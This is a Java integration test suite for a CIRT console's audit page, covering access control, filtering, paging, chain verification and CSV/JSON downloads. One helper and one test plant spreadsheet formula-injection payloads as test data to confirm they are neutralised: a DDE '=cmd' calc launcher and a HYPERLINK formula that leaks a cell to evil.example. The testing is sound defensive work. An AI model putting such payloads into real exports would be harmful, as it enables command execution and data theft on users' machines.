package org.opencirt.console;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.keycloak.admin.client.Keycloak;
import org.opencirt.audit.AuditTrail;
import org.opencirt.incident.IncidentApiTest;
import org.opencirt.testing.Api;

/**
 * The console's audit page through the real login, without JavaScript: a CIRT's lead reads, filters, pages, verifies
 * and downloads its own CIRT's trail only; an analyst gets 403 and no menu entry; the platform admin sees the
 * platform's chain only.
 */
@QuarkusTest
class ConsoleAuditPageTest {

    @Inject
    Keycloak keycloak;

    @Inject
    AuditTrail trail;

    @BeforeEach
    void realmKnowsTheTestPort() {
        ConsoleRealm.syncFromRealmFile(keycloak);
    }

    private static String incident(String user) {
        return IncidentApiTest.create(user, "{\"title\": \"Audit page %s\"}".formatted(UUID.randomUUID()))
                .getString("id");
    }

    /**
     * An entry whose actor, object and request id a spreadsheet would read as formulas, appended by the trail's one
     * writer (so the chain still holds); a machine client's id or a path parameter could bring such values.
     */
    static String hostileEntry(AuditTrail trail, String cirt) {
        var objectId = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")-" + UUID.randomUUID();
        QuarkusTransaction.requiringNew()
                .run(() -> trail.append(new AuditTrail.Draft(
                        cirt,
                        "=cmd|' /C calc'!A0",
                        "lead",
                        "console.test.hostile",
                        "+objects",
                        objectId,
                        "@SUM(1)",
                        "127.0.0.1",
                        null)));
        return objectId;
    }

    @Test
    void aLeadFiltersPagesVerifiesAndDownloadsItsOwnTrail() throws Exception {
        var mine = incident("ab-analyst");
        var theirs = incident("cd-analyst");
        var browser = new ConsoleBrowser();
        var page = browser.login("ab-lead", "/console/audit");
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.body()).contains("href=\"/console/audit\" aria-current=\"page\"");
        assertThat(page.body()).contains("incident.create").doesNotContain(theirs);

        var filtered = browser.get("/console/audit?objectId=" + mine + "&action=incident.create");
        assertThat(filtered.body()).contains(mine).contains("ab-analyst");
        assertThat(filtered.body().split("<tr id=\"audit-", -1)).hasSize(2);
        assertThat(browser.get("/console/audit?objectId=" + theirs).body()).contains("No entry matches.");

        // paged: 50 a page, the older link walks down and the newest link comes back
        var run = "paging-" + UUID.randomUUID();
        QuarkusTransaction.requiringNew().run(() -> {
            for (int i = 0; i < 51; i++) {
                trail.append(new AuditTrail.Draft(
                        "cert-ab",
                        run,
                        "lead",
                        "console.test.paging",
                        "tests",
                        Integer.toString(i),
                        run,
                        "127.0.0.1",
                        null));
            }
        });
        var first = browser.get("/console/audit?actor=" + run);
        assertThat(first.body().split("<tr id=\"audit-", -1)).hasSize(51);
        assertThat(first.body()).doesNotContain("id=\"audit-newest\"");
        var older = java.util.regex.Pattern.compile("href=\"(/console/audit\\?[^\"]*cursor=\\d+)\" id=\"audit-older\"")
                .matcher(first.body());
        assertThat(older.find()).isTrue();
        var second = browser.get(older.group(1).replace("&amp;", "&"));
        assertThat(second.body().split("<tr id=\"audit-", -1)).hasSize(2);
        assertThat(second.body())
                .contains(">0</code>")
                .contains("id=\"audit-newest\"")
                .doesNotContain("id=\"audit-older\"");

        var verified = browser.get("/console/audit/verification");
        assertThat(verified.status()).isEqualTo(200);
        assertThat(verified.body()).contains("id=\"audit-verification\"").contains("The chain holds");

        var csv = browser.get("/console/audit/entries.csv?objectId=" + mine);
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.headers().get("content-type").getFirst()).isEqualTo("text/csv;charset=UTF-8");
        assertThat(csv.headers().get("content-disposition").getFirst())
                .contains("attachment")
                .contains(".csv");
        var lines = csv.body().split("\r\n");
        assertThat(lines[0]).startsWith("\"cirt\",\"seq\",\"at\",\"actor\"");
        assertThat(lines).hasSize(2);
        assertThat(lines[1])
                .startsWith("\"cert-ab\",")
                .contains("\"ab-analyst\"")
                .contains("\"" + mine + "\"");

        var json = browser.get("/console/audit/entries.json?objectId=" + mine);
        assertThat(json.status()).isEqualTo(200);
        var entries = new ObjectMapper().readTree(json.body()).get("entries");
        assertThat(entries).hasSize(1);
        assertThat(entries.get(0).get("action").asText()).isEqualTo("incident.create");
        assertThat(entries.get(0).get("tenant").asText()).isEqualTo("cert-ab");

        // another CIRT's lead downloads its own chain: nothing of cert-ab's
        var cd = new ConsoleBrowser();
        cd.login("cd-lead", "/console/audit");
        var cdCsv = cd.get("/console/audit/entries.csv?action=incident.create").body();
        assertThat(cdCsv).contains(theirs).doesNotContain(mine).doesNotContain("\"cert-ab\"");
        assertThat(cd.get("/console/audit/entries.json?objectId=" + mine).body())
                .isEqualTo("{\"entries\":[]}");

        // a download is itself recorded in the chain it reads
        assertThat(Api.asUser("ab-lead")
                        .queryParam("action", "console.audit.csv")
                        .get("/api/v1/audit")
                        .then()
                        .statusCode(200)
                        .extract()
                        .jsonPath()
                        .getList("entries.actor"))
                .contains("ab-lead");
    }

    @Test
    void formulaCellsOfADownloadAreNeutralisedAndQuoted() {
        var objectId = hostileEntry(trail, "cert-ab");
        var browser = new ConsoleBrowser();
        browser.login("ab-admin", "/console/audit");
        var page = browser.get("/console/audit?objectId=" + URLEncoder.encode(objectId, StandardCharsets.UTF_8));
        assertThat(page.body())
                .contains("=cmd|&#39; /C calc&#39;!A0")
                .contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1");
        var csv = browser.get(
                        "/console/audit/entries.csv?objectId=" + URLEncoder.encode(objectId, StandardCharsets.UTF_8))
                .body();
        var row = csv.split("\r\n")[1];
        assertThat(row).contains(",\"'=cmd|' /C calc'!A0\",");
        assertThat(row).contains(",\"'+objects\",");
        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")-");
        assertThat(row).contains(",\"'@SUM(1)\",");
        Api.asUser("ab-lead").get("/api/v1/audit/verification").then().statusCode(200);
    }

    @Test
    void anAnalystGets403AndNoMenuEntry() {
        var browser = new ConsoleBrowser();
        var home = browser.login("ab-analyst");
        assertThat(home.body()).doesNotContain("/console/audit");
        assertThat(browser.get("/console/audit").status()).isEqualTo(403);
        assertThat(browser.get("/console/audit/verification").status()).isEqualTo(403);
        assertThat(browser.get("/console/audit/entries.csv").status()).isEqualTo(403);
        assertThat(browser.get("/console/audit/entries.json").status()).isEqualTo(403);
        var lead = new ConsoleBrowser().login("ab-lead");
        assertThat(lead.body()).contains("href=\"/console/audit\"");
    }

    @Test
    void thePlatformAdminSeesThePlatformsChainOnly() {
        var cirtIncident = incident("ab-analyst");
        Api.asUser("platform-admin")
                .body("{}")
                .patch("/api/v1/tenants/cert-ab")
                .then()
                .statusCode(200);
        var browser = new ConsoleBrowser();
        var page = browser.login("platform-admin", "/console/audit");
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.body()).contains("Audit trail of the platform").contains("tenant.update");
        assertThat(page.body()).doesNotContain("<code>incident.create</code>").doesNotContain(cirtIncident);
        // the navigation offers only the audit trail: the CIRT pages are not the platform admin's
        assertThat(page.body()).doesNotContain("href=\"/console/queue\"").doesNotContain("href=\"/console/feeds\"");
        var csv = browser.get("/console/audit/entries.csv").body().split("\r\n");
        assertThat(csv.length).isGreaterThan(1);
        for (int i = 1; i < csv.length; i++) {
            assertThat(csv[i]).startsWith("\"\",");
        }
        assertThat(browser.get("/console/audit?objectId=" + cirtIncident).body())
                .contains("No entry matches.");
        assertThat(browser.get("/console/audit/verification").body()).contains("The chain holds");
    }

    @Test
    void badFiltersGetAnErrorPageNamingTheField() {
        var browser = new ConsoleBrowser();
        browser.login("ab-lead", "/console/audit");
        var bad = browser.get("/console/audit?from=yesterday");
        assertThat(bad.status()).isEqualTo(400);
        assertThat(bad.body()).contains("from");
        assertThat(browser.get("/console/audit/entries.csv?actor=" + "x".repeat(201))
                        .status())
                .isEqualTo(400);
        var local = browser.get("/console/audit?from=2020-01-01T00:00&to=2020-01-02T00:00");
        assertThat(local.status()).isEqualTo(200);
        assertThat(local.body()).contains("No entry matches.");
    }
}
